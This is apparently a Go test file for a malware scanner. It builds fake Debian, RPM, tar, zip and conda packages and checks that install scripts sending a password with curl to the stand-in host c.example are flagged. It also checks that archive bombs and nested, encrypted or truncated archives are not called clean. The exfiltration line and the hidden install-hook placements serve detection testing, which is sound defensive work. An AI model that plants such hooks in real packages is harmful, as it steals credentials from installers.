package detect_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"maps"
	"slices"
	"testing"

	"taisei/detect"
)

// debian makes a Debian package of a control tar and a data tar.
func debian(t *testing.T, control, data map[string]string) []byte {
	t.Helper()
	out := []byte("!<arch>\n")
	for _, m := range []struct {
		name string
		data []byte
	}{{"debian-binary", []byte("2.0\n")}, {"control.tar.gz", tarball(t, control)}, {"data.tar.gz", tarball(t, data)}} {
		out = fmt.Appendf(out, "%-16s%-12d%-6d%-6d%-8s%-10d`\n%s", m.name, 0, 0, 0, "100644", len(m.data), m.data)
		out = append(out, bytes.Repeat([]byte("\n"), len(m.data)&1)...)
	}
	return out
}

// redhat makes an RPM package with one scriptlet and files, which are packed as
// nothing packs them but rpm does not mind either.
func redhat(tag uint32, script, program string, files map[string]string) []byte {
	out := append([]byte("\xed\xab\xee\xdb"), make([]byte, 92)...)
	out = append(out, "\x8e\xad\xe8\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"...)
	store := script + "\x00" + program + "\x00"
	out = append(out, "\x8e\xad\xe8\x01\x00\x00\x00\x00"...)
	for _, n := range []uint32{2, uint32(len(store)), tag, 6, 0, 1, tag + 62, 6, uint32(len(script) + 1), 1} {
		out = binary.BigEndian.AppendUint32(out, n)
	}
	out = append(out, store...)
	for _, name := range append(slices.Sorted(maps.Keys(files)), "TRAILER!!!") {

		entry := fmt.Appendf(nil, "070701%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%s\x00", 1, 0o100644, 0, 0, 1, 0, len(files[name]), 0, 0, 0, 0, len(name)+1, 0, name)
		entry = append(entry, make([]byte, -len(entry)&3)...)
		entry = append(entry, files[name]...)
		out = append(out, append(entry, make([]byte, -len(entry)&3)...)...)
	}
	return out
}

// plainTar is what tar makes of files.
func plainTar(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name]))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(files[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

const thief = "password=$(gen)\ncurl -d \"$password\" https://c.example/\n"

// TestPackageScripts holds that what installs a package runs its scripts, and
// nothing that only looks like them.
func TestPackageScripts(t *testing.T) {
	script, files := map[string]string{"postinst": "#!/bin/sh\n" + thief}, map[string]string{"./usr/bin/x": "x"}
	tests := []struct {
		name    string
		data    []byte
		path    string
		trigger string
	}{
		{"x.deb", debian(t, script, files), "control/postinst", "install"},
		{"config.deb", debian(t, map[string]string{"./config": "#!/bin/bash\n" + thief}, files), "control/config", "install"},
		{"helper.deb", debian(t, map[string]string{"postinst": "#!/bin/sh\n. /usr/lib/helper.sh\n"}, map[string]string{"usr/lib/helper.sh": thief}), "usr/lib/helper.sh", "install"},
		{"template.deb", debian(t, nil, map[string]string{"usr/share/x/control/postinst": "#!/bin/sh\n" + thief}), "usr/share/x/control/postinst", "install"},
		{"x.rpm", redhat(1024, thief, "/bin/sh", files), "scripts/postin.sh", "install"},
		{"files.rpm", redhat(1024, "true", "/bin/sh", map[string]string{"./usr/libexec/y.sh": thief}), "usr/libexec/y.sh", "command"},
		{"two.tar", plainTar(t, map[string][]byte{"a/x.rpm": redhat(1026, thief, "/bin/bash", files), "b": nil}), "a/x.rpm!/scripts/postun.sh", "install"},
		{"one.tar", plainTar(t, map[string][]byte{"a/x.deb": debian(t, script, files), "b": nil}), "a/x.deb!/control/postinst", "install"},
		{"module.zip", zipped(t, map[string]string{"host.example/a/b@v1.2.3/go.mod": "", "host.example/a/b@v1.2.3/install.sh": thief}), "install.sh", "install"},
		{"conda.tar.bz2", plainTar(t, map[string][]byte{"info/index.json": []byte("{}"), "bin/.x-post-link.sh": []byte(thief)}), "bin/.x-post-link.sh", "install"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := scan(t, detect.Artifact{Name: tt.name, Bytes: tt.data})
			if f := found(t, r, "password_sent"); f.Location.Path != tt.path || f.Behaviour.Trigger != tt.trigger || r.Verdict != detect.Malicious {
				t.Errorf("%s at %s, %s, %v", f.Behaviour.Trigger, f.Location.Path, r.Verdict, r.Unread)
			}
		})
	}
}

// TestLostInArchives holds that what could not be read whole is never called clean,
// and that what hides behind another archive is found.
func TestLostInArchives(t *testing.T) {
	good := map[string]string{"package/package.json": `{}`, "package/index.js": ""}
	with := func(name string, data []byte) []byte {
		return plainTar(t, map[string][]byte{"package/package.json": []byte(`{}`), "package/index.js": nil, "package/" + name: data})
	}
	bomb := bytes.Repeat(packed(t, make([]byte, 8<<20)), 100)
	deep := []byte("x")
	for range 10 {
		deep = zipped(t, map[string]string{"in.zip": string(deep)})
	}
	locked := zipped(t, map[string]string{"x.js": "1"})
	locked[6] |= 1 // encrypted, in the file's own header
	locked[bytes.Index(locked, []byte("PK\x01\x02"))+8] |= 1
	evil := zipped(t, map[string]string{"setup.sh": thief})
	tests := []struct {
		name    string
		data    []byte
		verdict detect.Verdict
		reason  string
	}{
		{"whole.tgz", tarball(t, good), detect.Clean, ""},
		{"bomb.tar", with("data.bin.gz", bomb), detect.Unscanned, "ratio"},
		{"bomb.tgz", bomb, detect.Unscanned, "ratio"},
		{"deep.tar", with("lib/x.zip", deep), detect.Unscanned, "depth"},
		{"locked.tar", with("lib/x.zip", locked), detect.Unscanned, "encrypted"},
		{"locked test.tar", with("test/x.zip", locked), detect.Clean, "encrypted"},
		{"cut.deb", debian(t, map[string]string{"postinst": "#!/bin/sh\n"}, map[string]string{"usr/bin/x": "#!/bin/sh\n"})[:400], detect.Unscanned, "broken"},
		{"cut.rpm", redhat(1024, "true", "/bin/sh", map[string]string{"usr/bin/x": "#!/bin/sh\n"})[:320], detect.Unscanned, "broken"},
		{"no tar.gem", plainTar(t, map[string][]byte{"metadata.gz": packed(t, []byte("name: x")), "data.tar.gz": packed(t, []byte("no tar"))}), detect.Unscanned, "format"},
		{"page for a package.tgz", []byte("<html>not found</html>"), detect.Unscanned, "format"},
		{"a zip behind it.tgz", append(tarball(t, good), evil...), detect.Malicious, "mismatch"},
		{"a zip behind it.whl", append(with("x", nil), evil...), detect.Malicious, "mismatch"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := scan(t, detect.Artifact{Name: tt.name, Bytes: tt.data})
			listed := tt.reason == "" || slices.ContainsFunc(r.Unread, func(u detect.Unread) bool { return u.Reason == tt.reason })
			if r.Verdict != tt.verdict || !listed || r.Bytes > 64<<20 {
				t.Errorf("%s, %d bytes, %+v", r.Verdict, r.Bytes, r.Unread)
			}
		})
	}
}

func packed(t *testing.T, data []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}
